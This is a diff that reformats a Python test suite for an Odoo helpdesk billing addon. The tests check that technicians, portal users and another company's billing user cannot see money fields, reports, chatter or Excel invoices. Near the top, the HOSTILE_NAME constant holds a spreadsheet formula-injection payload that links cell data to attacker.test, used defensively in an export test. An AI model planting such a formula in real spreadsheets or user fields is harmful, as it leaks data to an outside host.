@@ -24,8 +24,11 @@ from .rpc_common import HaloRpcCase, RpcError
 
 HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?d="&A1,"Pay here")'
 # Write-only entry fields: technicians type an amount in, reading gives 0.
-ENTRY_FIELDS = {("halo.expense", "amount_entry"), ("halo.ticket.item", "cost_entry"),
-                ("halo.ticket.item", "price_entry")}
+ENTRY_FIELDS = {
+    ("halo.expense", "amount_entry"),
+    ("halo.ticket.item", "cost_entry"),
+    ("halo.ticket.item", "price_entry"),
+}
 # Money that is not typed Monetary: amounts and blocks in floats, markups, price multipliers,
 # explanations and rating data that spell amounts out, the timesheet cost.
 OTHER_MONEY_FIELDS = {
@@ -59,27 +62,43 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         cls.invoice = cls.july_run.invoice_ids
         # a money contract of 1,500.00 (threshold 300.00), an hours contract of 3.5 h
         cls.money_contract = cls._contract(
-            name="Prepaid support", prepay_kind="money", topup_block=1500,
-            topup_product_id=cls.product_topup.id, topup_price=1500,
-            threshold_type="absolute", threshold_value=300,
+            name="Prepaid support",
+            prepay_kind="money",
+            topup_block=1500,
+            topup_product_id=cls.product_topup.id,
+            topup_price=1500,
+            threshold_type="absolute",
+            threshold_value=300,
             user_id=cls.technician.id,
             notify_partner_ids=[Command.set((cls.technician | cls.billing_user).partner_id.ids)],
         )
         cls.money_contract.action_topup()
         cls.hours_contract = cls._contract(
-            name="Prepaid hours", prepay_kind="hours", topup_block=3.5,
-            topup_product_id=cls.product_topup.id, topup_price=315,
+            name="Prepaid hours",
+            prepay_kind="hours",
+            topup_block=3.5,
+            topup_product_id=cls.product_topup.id,
+            topup_price=315,
         )
         cls.hours_contract.action_topup()
         # a portal user of the customer, a billing user of another company
         cls.portal_user = new_test_user(
-            cls.env, login="halo_portal", name="Paula Portal", groups="base.group_portal", context=QUIET,
+            cls.env,
+            login="halo_portal",
+            name="Paula Portal",
+            groups="base.group_portal",
+            context=QUIET,
         )
         cls.portal_user.partner_id.parent_id = cls.customer
         cls.company_b = cls.env["res.company"].create({"name": "Halo Two Ltd"})
         cls.billing_user_b = new_test_user(
-            cls.env, login="halo_biller_b", name="Bea Biller", groups=f"base.group_user,{BILLING_USER}",
-            company_id=cls.company_b.id, company_ids=[Command.set(cls.company_b.ids)], context=QUIET,
+            cls.env,
+            login="halo_biller_b",
+            name="Bea Biller",
+            groups=f"base.group_user,{BILLING_USER}",
+            company_id=cls.company_b.id,
+            company_ids=[Command.set(cls.company_b.ids)],
+            context=QUIET,
         )
 
     # ------------------------------------------------------------------ helpers
@@ -87,12 +106,18 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
     def _messages_seen(self, client, record):
         """Everything ``client`` gets of the chatter of ``record``: ``mail.message`` over RPC
         and the chatter's own route, as one text."""
-        seen = [client.call("mail.message", "search_read",
-                            [("model", "=", record._name), ("res_id", "=", record.id)],
-                            ["body", "subject", "preview"])]
+        seen = [
+            client.call(
+                "mail.message",
+                "search_read",
+                [("model", "=", record._name), ("res_id", "=", record.id)],
+                ["body", "subject", "preview"],
+            )
+        ]
         try:
-            seen.append(client._post("/mail/thread/messages",
-                                     {"thread_model": record._name, "thread_id": record.id}))
+            seen.append(
+                client._post("/mail/thread/messages", {"thread_model": record._name, "thread_id": record.id})
+            )
         except RpcError as error:
             seen.append(error.name)
         return json.dumps(seen)
@@ -125,7 +150,9 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         portal user read no money field of the addon, on any record; billing users do."""
         self.env.ref("base.group_user").implied_ids |= self.env.ref("analytic.group_analytic_accounting")
         money = self._money_fields()
-        self.assertLessEqual({"fee_amount", "topup_price", "balance_amount", "topup_block"}, money["halo.contract"])
+        self.assertLessEqual(
+            {"fee_amount", "topup_price", "balance_amount", "topup_block"}, money["halo.contract"]
+        )
         self.assertIn("amount", money["halo.billing.adjust.wizard"])
         clients = [self.rpc(self.technician), self.rpc(self.portal_user)]
         for model, fnames in sorted(money.items()):
@@ -135,15 +162,26 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
                         self.assertRpcRefused(client, model, "search_read", [], [fname], limit=5)
                         self.assertRpcRefused(client, model, "search", [(fname, "!=", False)], limit=1)
         # the entry fields give nothing back
-        self.assertEqual(clients[0].call("halo.ticket.item", "search_read", [], ["cost_entry", "price_entry"],
-                                         limit=1)[0], {"id": self.env["halo.ticket.item"].search([], limit=1).id,
-                                                       "cost_entry": 0.0, "price_entry": 0.0})
+        self.assertEqual(
+            clients[0].call("halo.ticket.item", "search_read", [], ["cost_entry", "price_entry"], limit=1)[0],
+            {
+                "id": self.env["halo.ticket.item"].search([], limit=1).id,
+                "cost_entry": 0.0,
+                "price_entry": 0.0,
+            },
+        )
         # the billing user reads the contracts' and the work's money
         biller = self.rpc(self.billing_user)
-        contract = biller.call("halo.contract", "read", self.money_contract.ids, ["balance_amount", "topup_block"])
-        self.assertEqual(contract, [{"id": self.money_contract.id, "balance_amount": 1500.0, "topup_block": 1500.0}])
-        self.assertEqual(biller.call("account.analytic.line", "read", self.actions.ids, ["halo_rated_amount"]),
-                         [{"id": action.id, "halo_rated_amount": 142.5} for action in self.actions])
+        contract = biller.call(
+            "halo.contract", "read", self.money_contract.ids, ["balance_amount", "topup_block"]
+        )
+        self.assertEqual(
+            contract, [{"id": self.money_contract.id, "balance_amount": 1500.0, "topup_block": 1500.0}]
+        )
+        self.assertEqual(
+            biller.call("account.analytic.line", "read", self.actions.ids, ["halo_rated_amount"]),
+            [{"id": action.id, "halo_rated_amount": 142.5} for action in self.actions],
+        )
 
     # -------------------------------------------------------- reports / exports
 
@@ -155,8 +193,11 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
                 self.assertRpcRefused(client, "halo.billing.report", "_halo_xlsx", [], [], True)
                 self.assertRpcRefused(client, "halo.billing.report", "search_read", [], ["amount"])
         # nothing was left for the technician to download either
-        self.assertFalse(self.env["ir.attachment"].search(
-            [("create_uid", "=", self.technician.id), ("name", "like", "billing-report")]))
+        self.assertFalse(
+            self.env["ir.attachment"].search(
+                [("create_uid", "=", self.technician.id), ("name", "like", "billing-report")]
+            )
+        )
         # the billing user of the company: July's 360.57 for Acme, no cost or margin columns
         biller = self.rpc(self.billing_user)
         action = biller.call("halo.billing.report", "action_export_xlsx", [])
@@ -193,14 +234,27 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
             self.assertNotIn("application/pdf", response.headers.get("Content-Type", ""), client.login)
 
     def test_rating_audits_and_excel_templates_of_the_company_only(self):
-        audit = self.env["halo.rating.audit"].sudo().create({
-            "line_id": self.actions[0].id, "reason": "Rate corrected",
-            "old_amount": 95.0, "new_amount": 142.5, "old_hours": 1.0, "new_hours": 1.5,
-        })
-        template = self.env["halo.xlsx.template"].create({
-            "name": "Acme layout", "company_id": self.env.company.id,
-            "datas": base64.b64encode(self._default_template()),
-        })
+        audit = (
+            self.env["halo.rating.audit"]
+            .sudo()
+            .create(
+                {
+                    "line_id": self.actions[0].id,
+                    "reason": "Rate corrected",
+                    "old_amount": 95.0,
+                    "new_amount": 142.5,
+                    "old_hours": 1.0,
+                    "new_hours": 1.5,
+                }
+            )
+        )
+        template = self.env["halo.xlsx.template"].create(
+            {
+                "name": "Acme layout",
+                "company_id": self.env.company.id,
+                "datas": base64.b64encode(self._default_template()),
+            }
+        )
         biller, biller_b = self.rpc(self.billing_user), self.rpc(self.billing_user_b)
         self.assertEqual(
             biller.call("halo.rating.audit", "search_read", [("id", "=", audit.id)], ["new_amount"]),
@@ -208,9 +262,13 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         )
         self.assertEqual(biller_b.call("halo.rating.audit", "search_read", [], ["new_amount"]), [])
         self.assertRpcRefused(biller_b, "halo.rating.audit", "read", [audit.id], ["new_amount"])
-        self.assertEqual(biller.call("halo.xlsx.template", "search", [("id", "=", template.id)]), [template.id])
+        self.assertEqual(
+            biller.call("halo.xlsx.template", "search", [("id", "=", template.id)]), [template.id]
+        )
         self.assertEqual(biller_b.call("halo.xlsx.template", "search", [("id", "=", template.id)]), [])
-        self.assertRpcRefused(self.rpc(self.technician), "halo.rating.audit", "search_read", [], ["new_amount"])
+        self.assertRpcRefused(
+            self.rpc(self.technician), "halo.rating.audit", "search_read", [], ["new_amount"]
+        )
 
     def _default_template(self):
         from ..services.xlsx_invoice import default_template
@@ -227,9 +285,14 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         self.assertNotIn("1,500", text)
         self.assertNotIn("1500", text)
         self.assertEqual(tech.call("halo.contract", "halo_balance_text", [hours]), "3.50 h")
-        self.env["halo.contract.ledger"].create({
-            "contract_id": money, "kind": "adjustment", "amount": -1500, "reason": "Refunded",
-        })
+        self.env["halo.contract.ledger"].create(
+            {
+                "contract_id": money,
+                "kind": "adjustment",
+                "amount": -1500,
+                "reason": "Refunded",
+            }
+        )
         self.assertEqual(tech.call("halo.contract", "halo_balance_text", [money]), "exhausted")
         self.assertEqual(biller.call("halo.contract", "halo_balance_text", [money]), "$\xa00.00")
         self.assertRpcRefused(self.rpc(self.portal_user), "halo.contract", "halo_balance_text", [money])
@@ -266,20 +329,33 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         tech = self.rpc(self.technician)
         self.assertRpcRefused(tech, "account.analytic.line", "read", action.ids, ["amount"])
         self.assertRpcRefused(tech, "account.analytic.line", "search_read", [("amount", "<", 0)], ["name"])
-        self.assertRpcRefused(tech, "account.analytic.line", "formatted_read_group",
-                              [("id", "in", self.actions.ids)], [], ["amount:sum"])
-        self.assertRpcRefused(tech, "timesheets.analysis.report", "search_read",
-                              [("id", "in", self.actions.ids)], ["amount"])
-        self.assertRpcRefused(tech, "timesheets.analysis.report", "formatted_read_group", [], ["user_id"],
-                              ["amount:sum"])
+        self.assertRpcRefused(
+            tech,
+            "account.analytic.line",
+            "formatted_read_group",
+            [("id", "in", self.actions.ids)],
+            [],
+            ["amount:sum"],
+        )
+        self.assertRpcRefused(
+            tech, "timesheets.analysis.report", "search_read", [("id", "in", self.actions.ids)], ["amount"]
+        )
+        self.assertRpcRefused(
+            tech, "timesheets.analysis.report", "formatted_read_group", [], ["user_id"], ["amount:sum"]
+        )
         self.assertRpcRefused(tech, "hr.employee", "read", self.employee.ids, ["hourly_cost"])
         # the technician's timesheet views still load, without the cost
         for model, refs in {
-            "account.analytic.line": ("hr_timesheet.hr_timesheet_line_tree", "hr_timesheet.view_hr_timesheet_line_pivot",
-                                      "hr_timesheet.view_hr_timesheet_line_graph_all",
-                                      "hr_timesheet.view_my_timesheet_line_pivot"),
-            "timesheets.analysis.report": ("hr_timesheet.timesheets_analysis_report_pivot_employee",
-                                           "hr_timesheet.timesheets_analysis_report_list"),
+            "account.analytic.line": (
+                "hr_timesheet.hr_timesheet_line_tree",
+                "hr_timesheet.view_hr_timesheet_line_pivot",
+                "hr_timesheet.view_hr_timesheet_line_graph_all",
+                "hr_timesheet.view_my_timesheet_line_pivot",
+            ),
+            "timesheets.analysis.report": (
+                "hr_timesheet.timesheets_analysis_report_pivot_employee",
+                "hr_timesheet.timesheets_analysis_report_list",
+            ),
         }.items():
             for ref in refs:
                 view = self.env.ref(ref)
@@ -293,10 +369,18 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         )
         # ... and the technician still records work: 1 h at 40.00 costs 40.00
         self.ticket.user_id = self.technician
-        new_id = tech.call("account.analytic.line", "create", [{
-            "halo_ticket_id": self.ticket.id, "name": "Call back",
-            "halo_start": "2026-08-03 09:00:00", "halo_end": "2026-08-03 10:00:00",
-        }])[0]
+        new_id = tech.call(
+            "account.analytic.line",
+            "create",
+            [
+                {
+                    "halo_ticket_id": self.ticket.id,
+                    "name": "Call back",
+                    "halo_start": "2026-08-03 09:00:00",
+                    "halo_end": "2026-08-03 10:00:00",
+                }
+            ],
+        )[0]
         self.assertEqual(self.env["account.analytic.line"].browse(new_id).amount, -40.0)
         # nor through the profitability of the project the timesheets are on (a project user)
         self.technician.group_ids |= self.env.ref("project.group_project_user")
@@ -309,18 +393,32 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         self.billing_user.group_ids |= self.env.ref("project.group_project_user")
         panel = biller.call("project.project", "get_panel_data", self.project.ids)
         self.assertEqual(panel["profitability_items"]["costs"]["total"]["billed"], -133.33)
-        self.assertEqual(biller.call("account.analytic.line", "read", action.ids, ["amount"])[0]["amount"], -53.33)
+        self.assertEqual(
+            biller.call("account.analytic.line", "read", action.ids, ["amount"])[0]["amount"], -53.33
+        )
         rows = biller.call("timesheets.analysis.report", "search_read", [("id", "=", action.id)], ["amount"])
         self.assertEqual(rows[0]["amount"], -53.33)
 
     # ------------------------------------------------------------------- chatter
 
     def test_ledger_adjustment_message_billing_only(self):
-        biller, tech, portal = self.rpc(self.billing_user), self.rpc(self.technician), self.rpc(self.portal_user)
-        biller.call("halo.contract.ledger", "create", [{
-            "contract_id": self.money_contract.id, "kind": "adjustment", "amount": -98.76,
-            "reason": "Goodwill credit",
-        }])
+        biller, tech, portal = (
+            self.rpc(self.billing_user),
+            self.rpc(self.technician),
+            self.rpc(self.portal_user),
+        )
+        biller.call(
+            "halo.contract.ledger",
+            "create",
+            [
+                {
+                    "contract_id": self.money_contract.id,
+                    "kind": "adjustment",
+                    "amount": -98.76,
+                    "reason": "Goodwill credit",
+                }
+            ],
+        )
         self.assertIn("-98.76", self._messages_seen(biller, self.money_contract))
         for client in (tech, portal):
             with self.subTest(user=client.login):
@@ -329,8 +427,12 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
                 self.assertNotIn("Goodwill", seen)
         # nor through the contract's own message field
         try:
-            data = tech.call("halo.contract", "web_read", [self.money_contract.id],
-                             {"message_ids": {"fields": {"body": {}}}})
+            data = tech.call(
+                "halo.contract",
+                "web_read",
+                [self.money_contract.id],
+                {"message_ids": {"fields": {"body": {}}}},
+            )
         except RpcError as error:
             data = error.name
         self.assertNotIn("98.76", json.dumps(data))
@@ -341,9 +443,17 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         run.action_preview()
         line = run.line_ids.filtered(lambda charge: charge.kind == "labour")[0]
         biller, tech = self.rpc(self.billing_user), self.rpc(self.technician)
-        wizard = biller.call("halo.billing.adjust.wizard", "create", [{
-            "line_id": line.id, "amount": 77.77, "reason": "Loyalty discount",
-        }])
+        wizard = biller.call(
+            "halo.billing.adjust.wizard",
+            "create",
+            [
+                {
+                    "line_id": line.id,
+                    "amount": 77.77,
+                    "reason": "Loyalty discount",
+                }
+            ],
+        )
         biller.call("halo.billing.adjust.wizard", "action_apply", wizard)
         self.assertIn("77.77", self._messages_seen(biller, run))
         # technicians read the run (it is on their work) but not its messages
@@ -359,8 +469,17 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         # the technician also follows the contract (as its account manager would)
         contract.message_subscribe(partner_ids=self.technician.partner_id.ids)
         # 1,265.50 consumed: 1,500.00 - 1,265.50 = 234.50 <= 300.00, the threshold is crossed
-        parts = {"a": [{"mode": "prepay_money", "contract_id": contract.id, "hours": 4.5,
-                        "amount": 1265.5, "explanation": "Prepaid"}]}
+        parts = {
+            "a": [
+                {
+                    "mode": "prepay_money",
+                    "contract_id": contract.id,
+                    "hours": 4.5,
+                    "amount": 1265.5,
+                    "explanation": "Prepaid",
+                }
+            ]
+        }
         _run, lines = self._run_lines(contract, parts, date(2026, 8, 31))
         self.Contract.sudo()._halo_commit_consumption(lines)
         self.assertTrue(contract.threshold_reached)
@@ -383,10 +502,17 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
     def _expired_money_contract_of_globex(self):
         """Globex's contract ended last year with 456.78 left (not written off)."""
         contract = self._contract(
-            name="Old prepaid", partner_id=self.other_customer.id, contact_id=False,
-            prepay_kind="money", topup_block=456.78, topup_product_id=self.product_topup.id,
-            topup_price=456.78, date_start=date(2025, 1, 1), date_end=date(2025, 12, 31),
-            expire_balance=False, on_expired="payg",
+            name="Old prepaid",
+            partner_id=self.other_customer.id,
+            contact_id=False,
+            prepay_kind="money",
+            topup_block=456.78,
+            topup_product_id=self.product_topup.id,
+            topup_price=456.78,
+            date_start=date(2025, 1, 1),
+            date_end=date(2025, 12, 31),
+            expire_balance=False,
+            on_expired="payg",
         )
         contract.action_topup()
         contract.state = "expired"
@@ -397,16 +523,28 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         self._expired_money_contract_of_globex()
         biller, tech = self.rpc(self.billing_user), self.rpc(self.technician)
         # a billing user opens a ticket for Globex: the note stays on the ticket
-        ticket_id = biller.call("helpdesk.ticket", "create", [{
-            "name": "Server down again", "description": "<p>Help</p>", "partner_id": self.other_customer.id,
-            "team_id": self.team.id, "user_id": self.technician.id,
-        }])[0]
+        ticket_id = biller.call(
+            "helpdesk.ticket",
+            "create",
+            [
+                {
+                    "name": "Server down again",
+                    "description": "<p>Help</p>",
+                    "partner_id": self.other_customer.id,
+                    "team_id": self.team.id,
+                    "user_id": self.technician.id,
+                }
+            ],
+        )[0]
         # ... and the mail gateway another one
         self.other_customer.email = "ap@globex.test"
-        gateway_id = self.env["mail.thread"].message_process("helpdesk.ticket", (
-            "From: Globex AP <ap@globex.test>\r\nTo: support@halo.test\r\nSubject: Printer again\r\n"
-            "Message-ID: <halo-money-1@globex.test>\r\nContent-Type: text/plain\r\n\r\nHelp\r\n"
-        ))
+        gateway_id = self.env["mail.thread"].message_process(
+            "helpdesk.ticket",
+            (
+                "From: Globex AP <ap@globex.test>\r\nTo: support@halo.test\r\nSubject: Printer again\r\n"
+                "Message-ID: <halo-money-1@globex.test>\r\nContent-Type: text/plain\r\n\r\nHelp\r\n"
+            ),
+        )
         self.env["helpdesk.ticket"].browse(gateway_id).user_id = self.technician
         for ticket in self.env["helpdesk.ticket"].browse([ticket_id, gateway_id]):
             with self.subTest(ticket=ticket.name):
@@ -418,8 +556,12 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
                 self.assertIn("expired on", seen)
                 self.assertNotIn("456.78", seen)
         # the banner still shows the billing user the amount
-        self.assertIn("456.78", biller.call("helpdesk.ticket", "read", [ticket_id], ["halo_contract_warning"])
-                      [0]["halo_contract_warning"])
+        self.assertIn(
+            "456.78",
+            biller.call("helpdesk.ticket", "read", [ticket_id], ["halo_contract_warning"])[0][
+                "halo_contract_warning"
+            ],
+        )
 
     # ------------------------------------------------------------ Excel invoice
 
@@ -427,8 +569,9 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         tech = self.rpc(self.technician)
         tech.call("res.users", "write", [self.technician.id], {"name": HOSTILE_NAME})
         self.assertRpcRefused(tech, "account.move", "action_halo_excel_invoice", self.invoice.ids)
-        self.assertRpcRefused(self.rpc(self.portal_user), "account.move", "action_halo_excel_invoice",
-                              self.invoice.ids)
+        self.assertRpcRefused(
+            self.rpc(self.portal_user), "account.move", "action_halo_excel_invoice", self.invoice.ids
+        )
         biller = self.rpc(self.billing_user)
         attachment_ids = biller.call("account.move", "action_halo_excel_invoice", self.invoice.ids)
         datas = biller.call("ir.attachment", "read", attachment_ids, ["datas"])[0]["datas"]
